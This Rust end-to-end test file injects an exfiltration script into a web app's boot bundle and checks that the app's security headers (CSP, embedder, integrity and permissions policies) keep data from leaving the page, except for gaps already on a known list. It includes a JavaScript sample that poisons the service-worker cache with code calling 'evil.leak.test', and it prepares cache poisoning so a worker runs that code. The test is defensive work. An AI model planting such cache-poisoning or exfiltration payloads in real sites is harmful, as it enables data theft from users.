//! A script of our own page that wants to tell somebody: under the real headers it does not get out, but
//! for the ways of `gaps.toml`, which no header can close in that engine.

use std::cell::RefCell;
use std::collections::BTreeSet;
use std::path::Path;

use anyhow::{Result, bail, ensure};
use ebb_e2e::{
    Browser, Ears, Network, Person, Place, Setting, WindowHandle, apart, embed_site,
    in_every_engine,
};
use serde_json::json;
use xtask::server::{Server, Site};

use crate::gaps::gaps;

in_every_engine! {
    no_way_out_of_the_app_but_the_known_gaps
    no_way_out_of_the_embed_but_the_known_gaps
    no_page_without_the_policy_comes_out_of_the_kept_files
    no_worker_without_the_policy_comes_out_of_the_kept_files
    without_the_headers_most_ways_lead_out
}

/// At least so many ways are tried, and at least so many lead out where no header stops them.
const WAYS: usize = 120;
const LEAD_OUT: usize = 60;

/// A way that this build's own kept files would have to open; it has a test of its own.
const CACHE_PAGE: &str = "cache-page";

async fn no_way_out_of_the_app_but_the_known_gaps(browser: Browser) -> Result<()> {
    if !apart(Network::Ears)? {
        return Ok(());
    }
    let place = Place::open(|site| armed(&site).without("/sw.js"))?;
    only_gaps(browser, place).await
}

async fn no_way_out_of_the_embed_but_the_known_gaps(browser: Browser) -> Result<()> {
    if !apart(Network::Ears)? {
        return Ok(());
    }
    let ebb = Server::start(armed(&embed_site()?))?;
    let elsewhere = Server::start(embed_site()?)?;
    only_gaps(browser, Place { ebb, elsewhere }).await
}

async fn no_page_without_the_policy_comes_out_of_the_kept_files(browser: Browser) -> Result<()> {
    if !apart(Network::Ears)? {
        return Ok(());
    }
    let attack = Attack::on(browser, Place::open(|site| armed(&site).renewed())?).await?;
    // It has taken the name of our policy, so the worker comes when it says so.
    attack.starts(&[CACHE_PAGE.to_owned()]).await?;
    // What it put in the place of the Spanish page is not shown: the real one is.
    attack.person.until("return document.documentElement.lang === 'es'").await?;
    attack.person.until_ready().await?;
    attack.settles().await?;
    let reached = attack.reached();
    ensure!(reached.is_empty(), "{reached:?}");
    Ok(())
}

/// The policy lets one address be a worker: what is put among the kept files under it is not used.
async fn no_worker_without_the_policy_comes_out_of_the_kept_files(browser: Browser) -> Result<()> {
    if !apart(Network::Ears)? {
        return Ok(());
    }
    let script = "
        addEventListener('load', async () => {
            const file = self.trustedTypes?.createPolicy('ebb', { createScriptURL: String }) ?? { createScriptURL: String };
            await navigator.serviceWorker.register(file.createScriptURL('/sw.js'));
            await navigator.serviceWorker.ready;
            const headers = { 'Content-Type': 'text/javascript', 'Cross-Origin-Embedder-Policy': 'require-corp' };
            const evil = new Response('fetch(\"https://evil.leak.test/\", { mode: \"no-cors\" })', { headers });
            for (const name of await caches.keys()) await (await caches.open(name)).put('/sw.js', evil.clone());
            if (!navigator.serviceWorker.controller) return location.reload();
            try { window.evil = new Worker(file.createScriptURL('/sw.js')); } catch {}
            window.tried = true;
        });";
    let armed = |site: Site| {
        let boot = site.path_of("/boot.*.js");
        let text = [site.text_of(&boot), script.to_owned()].concat();
        site.renamed(&boot, text.into_bytes()).renewed()
    };
    let attack = Attack::at(browser, Place::open(armed)?, "return window.tried === true").await?;
    attack.settles().await?;
    let reached = attack.reached();
    ensure!(reached.is_empty(), "{reached:?}");
    Ok(())
}

/// The control: the same script where a host has lost the headers.
async fn without_the_headers_most_ways_lead_out(browser: Browser) -> Result<()> {
    if !apart(Network::Ears)? {
        return Ok(());
    }
    let bare = |site: Site| {
        let names = [
            "Content-Security-Policy",
            "Connection-Allowlist",
            "Cross-Origin-Embedder-Policy",
            "Integrity-Policy",
            "Permissions-Policy",
            "X-DNS-Prefetch-Control",
        ];
        names.into_iter().fold(armed(&site).without("/sw.js"), Site::without_header)
    };
    let attack = Attack::on(browser, Place::open(bare)?).await?;
    let stays = attack.ways(false).await?;
    attack.starts(&stays).await?;
    attack.settles().await?;
    let reached = attack.reached();
    ensure!(reached.len() >= LEAD_OUT, "only {} ways lead out: {reached:?}", reached.len());
    Ok(())
}

async fn only_gaps(browser: Browser, place: Place) -> Result<()> {
    let gaps = gaps(browser)?;
    let ways = |sometimes: bool| {
        let its = gaps.iter().filter(move |gap| sometimes || !gap.sometimes);
        its.flat_map(|gap| gap.ways.clone()).collect::<BTreeSet<_>>()
    };
    let (known, always) = (ways(true), ways(false));
    let mut attack = Attack::on(browser, place).await?;
    let (stays, leaves) = (attack.ways(false).await?, attack.ways(true).await?);
    ensure!(stays.len() + leaves.len() >= WAYS, "{} ways", stays.len() + leaves.len());
    attack.starts(&stays).await?;
    attack.settles().await?;
    for way in leaves.iter().filter(|way| *way != CACHE_PAGE) {
        attack.loads().await?;
        attack.starts(std::slice::from_ref(way)).await?;
        // Where a way is known to lead out it does so before the next one is tried.
        for _ in 0..if always.contains(way) { 500 } else { 10 } {
            if attack.reached().contains(way) {
                break;
            }
            // The page may be gone, which is an answer too.
            attack.person.js("return 1").await.ok();
        }
    }
    attack.loads().await?;
    attack.settles().await?;
    let reached = attack.reached();
    let new: Vec<_> = reached.difference(&known).collect();
    ensure!(new.is_empty(), "ways out that are no known gap: {new:?}");
    let closed: Vec<_> = always.difference(&reached).collect();
    ensure!(closed.is_empty(), "gaps that are none any more, to be taken off the list: {closed:?}");
    Ok(())
}

/// The site with the script at the end of its first one, and as a file that it can make a worker of.
fn armed(site: &Site) -> Site {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("attack/ways-out.js");
    let script = std::fs::read_to_string(&path).unwrap_or_else(|error| panic!("{error}: {path:?}"));
    let boot = site.path_of("/boot.*.js");
    let text = [site.text_of(&boot), script.clone()].concat();
    site.clone().renamed(&boot, text.into_bytes()).with_file("/ways-out.js", &script)
}

/// A page with the script in it, and everybody outside.
struct Attack {
    person: Person,
    ears: Ears,
    home: RefCell<WindowHandle>,
}

impl Attack {
    async fn on(browser: Browser, place: Place) -> Result<Self> {
        Self::at(browser, place, "return Array.isArray(window.waysOut)").await
    }

    /// On a page that is there once a script says so.
    async fn at(browser: Browser, place: Place, is_there: &str) -> Result<Self> {
        let ears = Ears::open()?;
        // A name, and no number: one way out asks for one. The worker is for the number.
        let has_worker = place.ebb.has("/sw.js");
        let page = place.ebb.url();
        let page = if has_worker { page } else { page.replace("127.0.0.1", "localhost") };
        let person = Person::at(browser, &Setting::default(), place, page).await?;
        person.until(is_there).await?;
        let home = RefCell::new(person.web.window().await?);
        Ok(Self { person, ears, home })
    }

    /// The names of the ways that stay on the page, or of those that leave it.
    async fn ways(&self, leave: bool) -> Result<Vec<String>> {
        let names =
            format!("return waysOut.filter((it) => !!it.leaves === {leave}).map((it) => it.name)");
        Ok(serde_json::from_value(self.person.js(&names).await?)?)
    }

    /// Starts these ways with a click, as some need one.
    async fn starts(&self, ways: &[String]) -> Result<()> {
        let on_click = format!(
            "addEventListener('click', (event) => {{
                event.preventDefault();
                event.stopImmediatePropagation();
                for (const name of {}) waysOut.find((it) => it.name === name).go(`${{name}}.leak.test`);
            }}, {{ once: true, capture: true }})",
            json!(ways)
        );
        self.person.js(&on_click).await?;
        let click = self.person.web.action_chain().move_to(300, 8).click();
        // A page that is left at once answers no more.
        click.perform().await.ok();
        Ok(())
    }

    /// Back on the page, with no other window.
    async fn loads(&mut self) -> Result<()> {
        if self.at_home().await.is_err() {
            // One engine loses its last window to some of the ways.
            self.person.takes_another_browser().await?;
            *self.home.borrow_mut() = self.person.web.window().await?;
        }
        let web = &self.person.web;
        for window in web.windows().await? {
            // What was going on in it may have closed it.
            let is_home = window == *self.home.borrow();
            if !is_home && web.switch_to_window(window).await.is_ok() {
                web.close_window().await.ok();
            }
        }
        self.at_home().await?;
        for _ in 0..5 {
            // A navigation that was refused can take this one with it.
            if web.goto(self.person.page()).await.is_ok() {
                break;
            }
        }
        self.person.until("return Array.isArray(window.waysOut)").await
    }

    /// Back in the page's own window. Going to another page may have put another window in its place,
    /// and the coming and going of others may take the word.
    async fn at_home(&self) -> Result<()> {
        let web = &self.person.web;
        for _ in 0..50 {
            let home = self.home.borrow().clone();
            if web.switch_to_window(home).await.is_ok() {
                return Ok(());
            }
            if let Some(other) = web.windows().await.unwrap_or_default().into_iter().next() {
                *self.home.borrow_mut() = other;
            }
        }
        bail!("every window is gone")
    }

    /// Waits until what was started has had its time: somebody outside hears of a new window, twice.
    async fn settles(&self) -> Result<()> {
        for turn in 0..2 {
            let done = format!("done-{turn}.leak.test");
            let web = &self.person.web;
            self.at_home().await?;
            let window = web.new_window().await?;
            web.switch_to_window(window).await?;
            web.goto(format!("http://{done}/")).await.ok();
            let start = std::time::Instant::now();
            while !self.ears.so_far().names.contains(&done) {
                ensure!(start.elapsed().as_secs() < 30, "nobody hears of a new window");
                tokio::task::yield_now().await;
            }
            web.close_window().await.ok();
            self.at_home().await?;
            for _ in 0..100 {
                self.person.js("return 1").await.ok();
            }
        }
        Ok(())
    }

    /// The ways whose word was heard outside: each goes to a name of its own.
    fn reached(&self) -> BTreeSet<String> {
        let heard = self.ears.so_far();
        let said = heard.said.iter().map(|said| String::from_utf8_lossy(said).into_owned());
        let all: Vec<String> = heard.names.iter().cloned().chain(said).collect();
        let ways = all.iter().flat_map(|text| text.split(|it: char| !it.is_ascii_graphic()));
        let ways = ways.filter_map(|word| word.split(".leak.test").next().filter(|it| *it != word));
        let names = ways.filter_map(|it| it.rsplit(['/', '.', '@', ':']).next().map(str::to_owned));
        names.filter(|name| !name.starts_with("done-") && !name.is_empty()).collect()
    }
}
